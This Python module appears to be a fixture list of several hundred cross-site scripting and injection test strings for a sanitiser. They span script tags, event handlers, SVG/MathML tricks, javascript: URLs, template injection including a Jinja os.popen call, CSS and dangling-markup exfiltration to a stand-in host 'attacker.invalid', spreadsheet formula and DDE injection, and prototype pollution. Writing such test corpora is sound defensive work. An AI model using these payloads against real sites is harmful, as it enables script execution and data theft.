"""Texts that try to run a script or to reach another host, by the ways in which pages have been made to.

Each one sets `window.__hit`, or asks the host `attacker.invalid`, if anything interprets it.
"""

HIT = "window.__hit=1"
HOST = "attacker.invalid"
URL = f"http://{HOST}/x"
IMG = f"<img src=x onerror={HIT}>"
ACCENT = "\u0301"

TAGS = [
    f"<script>{HIT}</script>", f"<SCRIPT>{HIT}</SCRIPT>", f"<ScRiPt>{HIT}</sCrIpT>", f"<script src={URL}></script>",
    f"<script src=//{HOST}/x></script>", f"<script/src='{URL}'></script>", f"<script\n>{HIT}</script\n>",
    f"<script type=module>{HIT}</script>", f"<script type='text/javascript'>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"<<script>{HIT}//<</script>", f"<script>{HIT}", f"<script x>{HIT}</script x>",
    f"</script><script>{HIT}</script>", f"</textarea><script>{HIT}</script>", f"</title><script>{HIT}</script>",
    f"</style><script>{HIT}</script>", f"</noscript><script>{HIT}</script>", f"</template><script>{HIT}</script>",
    f"--><script>{HIT}</script>", f"]]><script>{HIT}</script>", f"<!--<img src='--><img src=x onerror={HIT}//'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>", f"<xmp><p title='</xmp><img src=x onerror={HIT}>'>",
    f"<plaintext><script>{HIT}</script>", f"<listing>&lt;img onerror={HIT} src=x&gt;</listing>",
    f"<template><script>{HIT}</script></template>", f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{URL}\"]}}]}}</script>",
    f"<script type=importmap>{{\"imports\":{{\"a\":\"{URL}\"}}}}</script><script type=module>import 'a'</script>",
    f"<script>fetch('{URL}')</script>", f"<script>import('{URL}')</script>", f"<script>new Image().src='{URL}'</script>",
    f"<script>navigator.sendBeacon('{URL}')</script>", f"<script>new Worker('data:,{HIT}')</script>",
    f"<script>document.write('<img src={URL}>')</script>", f"<script>new WebSocket('ws://{HOST}')</script>",
]  # fmt: skip
EVENTS = [
    f"<img src=x onerror={HIT}>", f"<img src=x onerror='{HIT}'>", f'<img src=x onerror="{HIT}">', f"<img src=x OnErRoR={HIT}>",
    f"<img src=x onerror\n=\n{HIT}>", f"<img/src=x/onerror={HIT}>", f"<img\tsrc=x\tonerror={HIT}>", f"<img src=x onerror=`{HIT}`>",
    "<img src=x onerror=&#119;indow.__hit=1>", "<img src=x onerror=&#x77;indow.__hit=1>", f"<image src=x onerror={HIT}>",
    f"<img src='/static/rondo.svg' onload={HIT}>", f"<body onload={HIT}>", f"<body onpageshow={HIT}>", f"<body onhashchange={HIT}>",
    f"<video src=x onerror={HIT}>", f"<video><source onerror={HIT}></video>", f"<video poster={URL}>", f"<audio src=x onerror={HIT}>",
    f"<audio autoplay onloadstart={HIT} src=x>", f"<details open ontoggle={HIT}>x</details>", f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>", f"<textarea autofocus onfocus={HIT}>", f"<button autofocus onfocus={HIT}>x</button>",
    f"<a autofocus tabindex=1 onfocus={HIT}>x</a>", f"<div tabindex=1 autofocus onfocus={HIT}>x</div>", f"<marquee onstart={HIT}>x</marquee>",
    f"<style>@keyframes q{{}}</style><p style='animation:q 1s' onanimationstart={HIT}>x</p>", f"<iframe onload={HIT}></iframe>",
    f"<object data=x onerror={HIT}></object>", f"<embed src=x onerror={HIT}>", f"<link rel=stylesheet href=x onerror={HIT}>",
    f"<style onload={HIT}></style>", f"<script src=x onerror={HIT}></script>", f"<track src=x onerror={HIT}>",
    f"<form onsubmit={HIT}><button>x</button></form>", f"<div onpointerover={HIT}>x</div>", f"<div onmouseenter={HIT} style='position:fixed;inset:0'>x</div>",
    f"<div contenteditable autofocus onfocus={HIT}>x</div>", f"<p oncontentvisibilityautostatechange={HIT} style='content-visibility:auto'>x",
    f"<dialog open onclose={HIT}><form method=dialog><button autofocus>x</button></form></dialog>", f"<x onclick={HIT} autofocus tabindex=0 onfocus={HIT}>x</x>",
    f"<p popover id=pop onbeforetoggle={HIT}>x</p><button popovertarget=pop>y</button>",
]  # fmt: skip
FOREIGN = [
    f"<svg onload={HIT}>", f"<svg/onload={HIT}>", f"<svg><script>{HIT}</script></svg>", f"<svg><script href={URL} /></svg>",
    f"<svg><script xlink:href='data:,{HIT}'/></svg>", f"<svg><image href={URL} /></svg>", f"<svg><image href=x onerror={HIT} /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={HIT} xmlns=http://www.w3.org/2000/svg/>#x' /></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>", f"<svg><set onbegin={HIT} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>", f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={HIT}></style></svg>", f"<svg><title><img src=x onerror={HIT}></title></svg>", f"<svg><desc><img src=x onerror={HIT}></desc></svg>",
    f"<svg><animate xlink:href=#a attributeName=href values='javascript:{HIT}'/><a id=a><text>x</text></a></svg>", f"<svg><handler>{HIT}</handler></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>", f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<math href='javascript:{HIT}'>x</math>", f"<math><maction actiontype=statusline xlink:href='javascript:{HIT}'>x</maction></math>",
    f"<math><mi><img src=x onerror={HIT}></mi></math>", f"<math><annotation-xml encoding=text/html><img src=x onerror={HIT}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
]  # fmt: skip
ADDRESSES = [
    f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f"java\tscript:{HIT}", f"java\nscript:{HIT}", f"\x01javascript:{HIT}", f"javascript&colon;{HIT}",
    f"<a href='javascript:{HIT}'>x</a>", f"<a href=javascript&#58;{HIT}>x</a>", f"<a href=' javascript:{HIT}'>x</a>", f"<a href='vbscript:{HIT}'>x</a>",
    f"<a href='data:text/html,<script>{HIT}</script>'>x</a>", f"data:text/html,<script>{HIT}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    f"<iframe src='javascript:{HIT}'></iframe>", f"<iframe src={URL}></iframe>", "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.__hit=1&gt;'></iframe>", f"<iframe src='data:text/html,<script>{HIT}</script>'></iframe>",
    f"<object data='data:text/html,<script>{HIT}</script>'></object>", f"<object data='javascript:{HIT}'></object>", f"<embed src='javascript:{HIT}'>", f"<embed src={URL}>",
    f"<frameset><frame src='javascript:{HIT}'></frameset>", f"<form action='javascript:{HIT}'><button>x</button></form>", f"<form action={URL}><input name=q><button>x</button></form>",
    f"<button form=f formaction='javascript:{HIT}'>x</button>", f"<isindex action='javascript:{HIT}' type=image>", f"<input type=image src={URL}>", f"<area href='javascript:{HIT}'>",
    f"<base href={URL}/>", f"<base href='javascript:{HIT}//'>", f"<meta http-equiv=refresh content='0;url={URL}'>", f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    f"<meta http-equiv=Content-Security-Policy content='img-src *'>{IMG}", f"<link rel=prefetch href={URL}>", f"<link rel=preconnect href=http://{HOST}>", f"<link rel=dns-prefetch href=//{HOST}>",
    f"<link rel=stylesheet href={URL}>", f"<link rel=modulepreload href={URL}>", f"<link rel=icon href={URL}>", f"<link rel=manifest href={URL}>", f"<a href=/logout ping={URL}>x</a>",
    f"//{HOST}/x", f"\\\\{HOST}\\x", f"http://{HOST}/{'a' * 40}", f"blob:{URL}", f"feed:javascript:{HIT}", f"view-source:javascript:{HIT}",
]  # fmt: skip
BREAKOUTS = [
    f'"><script>{HIT}</script>', f"'><script>{HIT}</script>", f"`><script>{HIT}</script>", f'" onmouseover={HIT} x="', f"' onmouseover={HIT} x='", f'" autofocus onfocus={HIT} x="',
    f"' autofocus onfocus={HIT} x='", f"\" style=animation:x onanimationstart={HIT} \"", f"x onerror={HIT}", f"/onerror={HIT}//", f"';{HIT};'", f'";{HIT};"', f"`;{HIT};`", f"\\';{HIT};//",
    f'\\";{HIT};//', f"\n{HIT}\n", f"\u2028{HIT}\u2029", f"*/{HIT}/*", f"//\n{HIT}", f"<!--\n{HIT}//-->", f"');{HIT};('", f'");{HIT};("', f"}});{HIT};({{", f"]];{HIT};[[", f"${{{HIT}}}",
    f"`${{{HIT}}}`", f"\\${{{HIT}}}", f"$\\{{{HIT}}}", f"\\`${{{HIT}}}", "\\u{77}indow.__hit=1", f"\\x3cscript\\x3e{HIT}\\x3c/script\\x3e", f"\\u003cimg src=x onerror={HIT}\\u003e",
]  # fmt: skip
TEMPLATES = [
    f"{{{{{HIT}}}}}", f"{{{{constructor.constructor('{HIT}')()}}}}", f"{{{{{{{HIT}}}}}}}", f"{{{{{{<img src=x onerror={HIT}>}}}}}}", f"{{{{#with this}}}}{{{{lookup constructor '{HIT}'}}}}{{{{/with}}}}",
    f"{{{{#each this}}}}<script>{HIT}</script>{{{{/each}}}}", f"{{% raw %}}<script>{HIT}</script>{{% endraw %}}", f"{{{{ ''.__class__.__mro__ }}}}{IMG}", f"{{{{ cycler.__init__.__globals__.os.popen('id') }}}}{IMG}",
    f"<% {HIT} %>", f"<%= {HIT} %>", f"<?php echo '{HIT}' ?>", f"#{{{HIT}}}", f"@{{{HIT}}}", f"[[{HIT}]]", f"{{@html '<img src=x onerror={HIT}>'}}", f"<div v-html=\"'<img src=x onerror={HIT}>'\"></div>",
    f"<div ng-app ng-csp>{{{{$on.constructor('{HIT}')()}}}}</div>", f"<div x-data x-init='{HIT}'></div>", f"<div hx-get={URL} hx-trigger=load></div>", f"<div data-bind='html: {HIT}'></div>", f"@children<script>{HIT}</script>",
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{HIT})", f"[x](<javascript:{HIT}>)", f"[x](data:text/html,<script>{HIT}</script>)", f"![x]({URL})", f"![x]({URL} \"t\")", f"![x][r]\n\n[r]: {URL}", f"[r]: javascript:{HIT}\n\n[x][r]",
    f"<javascript:{HIT}>", f"[x]({URL} 'a\" onmouseover={HIT}')", f"![\" onerror={HIT} x=\"](x)", f"[![x]({URL})](javascript:{HIT})", f"```html\n<script>{HIT}</script>\n```", f"```\"><script>{HIT}</script>\nx\n```",
    f"~~~<img src=x onerror={HIT}>\nx\n~~~", f"`<img src=x onerror={HIT}>`", f"> <img src=x onerror={HIT}>", f"- <svg onload={HIT}>", f"# <img src=x onerror={HIT}>", f"|a|\n|-|\n|<img src=x onerror={HIT}>|",
    f"[x](&#106;avascript:{HIT})", f"[x](java&Tab;script:{HIT})", f"<details><summary>x</summary><img src=x onerror={HIT}></details>", f"[^1]: <img src=x onerror={HIT}>", f"https://{HOST}/\"onmouseover={HIT}",
]  # fmt: skip
FORMULAS = [
    f"$\\href{{javascript:{HIT}}}{{x}}$", f"$$\\href{{javascript:{HIT}}}{{x}}$$", f"$\\url{{javascript:{HIT}}}$", f"$\\includegraphics{{{URL}}}$", f"$\\htmlData{{x={URL}}}{{y}}$", f"$\\htmlClass{{a' onclick='{HIT}}}{{y}}$",
    f"$\\htmlId{{x}}{{\\htmlStyle{{background:url({URL})}}{{y}}}}$", f"$\\text{{<img src=x onerror={HIT}>}}$", f"\\(\\unicode{{<script>{HIT}</script>}}\\)", f"\\[\\style{{background:url({URL})}}{{x}}\\]", f"$\\def\\x{{\\x\\x}}\\x$ {IMG}",
    f"$\\require{{html}}\\href{{{URL}}}{{x}}$", f"$\\input{{{URL}}}$", f"$\\class{{\"><script>{HIT}</script>}}{{x}}$", f"$</math><script>{HIT}</script>$", f"```mermaid\ngraph TD; a[<img src=x onerror={HIT}>]\n```",
]  # fmt: skip
STYLES = [
    f"<style>*{{background:url({URL})}}</style>", f"<style>@import '{URL}';</style>", f"<style>@font-face{{font-family:x;src:url({URL})}}*{{font-family:x}}</style>", f"<p style='background:url({URL})'>x</p>",
    f"<p style=\"background-image:image-set('{URL}' 1x)\">x</p>", f"<p style='behavior:url({URL})'>x</p>", f"<p style='width:expression({HIT})'>x</p>", f"<div style='position:fixed;inset:0;z-index:9999;background:url({URL})'>x</div>",
    f"<table background={URL}><tr><td>x</table>", f"<body background={URL}>", f"<ul style='list-style:url({URL})'><li>x</ul>", f"}}*{{background:url({URL})}}", f"<style>input[value^=a]{{background:url({URL})}}</style>",
]  # fmt: skip
DANGLING = [
    f"<img src='{URL}?", f"<img src=\"{URL}?", f"<a href='{URL}?", f"<form action={URL}><textarea name=q>", f"<form action={URL}><button>x<select><option>", f"<base href={URL} target='", f"<img src={URL}", f"<iframe src='{URL}", f"<link rel=stylesheet href='{URL}",
    f"<button name=q form=f formaction={URL}><input name=q value='", f"<plaintext>{IMG}", f"<!-->{IMG}", f"<![CDATA[{IMG}", f"<title></title>{IMG}", f"<textarea></textarea>{IMG}", f"<noscript></noscript>{IMG}",
]  # fmt: skip
LETTERS = [
    f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&#60;img src=x onerror={HIT}&#62;", f"&#x3c;img src=x onerror={HIT}&#x3e;", f"&amp;lt;img src=x onerror={HIT}&amp;gt;", f"%3Cscript%3E{HIT}%3C/script%3E", f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"\u02bcscript\u02bc{HIT}", f"<\u0000script>{HIT}</script>", f"<scr\u0000ipt>{HIT}</script>", f"<img src=x \u0000onerror={HIT}>", f"<img src=x on\u200berror={HIT}>", f"\u202e<img src=x onerror={HIT}>\u202c", f"\u2066<script>{HIT}</script>\u2069",
    f"\ufeff<script>{HIT}</script>", f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-", f"<ſcript>{HIT}</ſcript>", f"<ımg src=x onerror={HIT}>", f"<img\u00a0src=x\u00a0onerror={HIT}>", f"<img\u000csrc=x\u000conerror={HIT}>", f"\u0007\u001b[31m<img src=x onerror={HIT}>",
    f"{'A' * 20000}<img src=x onerror={HIT}>", f"{'<b>' * 2000}<img src=x onerror={HIT}>", f"{'&' * 5000}<script>{HIT}</script>", f"a{ACCENT * 200}<svg onload={HIT}>", "\U0001f3f4\u200d\u2620\ufe0f<svg onload=window.__hit=1>",
]  # fmt: skip
CELLS = [
    f"=HYPERLINK(\"{URL}\",\"x\")", f"=WEBSERVICE(\"{URL}\")", f"=IMPORTXML(\"{URL}\",\"//a\")", f"=cmd|' /C calc {URL}'!A0", f"+HYPERLINK(\"{URL}\")", f"-1+IMAGE(\"{URL}\")", f"@IMAGE(\"{URL}\")", f"\t=IMAGE(\"{URL}\")", f"\r=IMAGE(\"{URL}\")", f"=1+1\",\"<script>{HIT}</script>",
]  # fmt: skip
JSON_KEYS = [
    '{"__proto__":{"__hit":1}}', '{"constructor":{"prototype":{"__hit":1}}}', f'{{"__html":"<img src=x onerror={HIT}>"}}', f'{{"dangerouslySetInnerHTML":{{"__html":"<script>{HIT}</script>"}}}}', f"</script>{{\"a\":\"<script>{HIT}</script>\"}}",
]  # fmt: skip

STRINGS: list[str] = list(
    dict.fromkeys(
        [
            *TAGS, *EVENTS, *FOREIGN, *ADDRESSES, *BREAKOUTS, *TEMPLATES, *MARKDOWN, *FORMULAS, *STYLES, *DANGLING,
            *LETTERS, *CELLS, *JSON_KEYS,
        ]
    )
)  # fmt: skip
"""All of them, each once."""
